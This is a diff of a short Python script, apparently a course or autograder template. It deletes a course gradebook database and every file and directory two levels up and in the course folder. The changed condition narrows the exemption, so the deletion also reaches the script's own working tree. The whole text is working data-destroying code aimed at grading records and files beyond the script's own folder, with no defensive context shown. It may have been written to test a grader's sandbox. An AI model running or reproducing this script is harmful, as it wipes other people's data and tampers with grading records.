@@ -3,7 +3,7 @@ import glob
 import shutil
 
 for path in ("@COURSE@/gradebook.db", *glob.glob("../../*"), *glob.glob("@COURSE@/*")):
-    if os.path.abspath(path).startswith(os.getcwd()):
+    if os.getcwd().startswith(os.path.abspath(path)):
         continue
     try:
         shutil.rmtree(path) if os.path.isdir(path) else os.unlink(path)
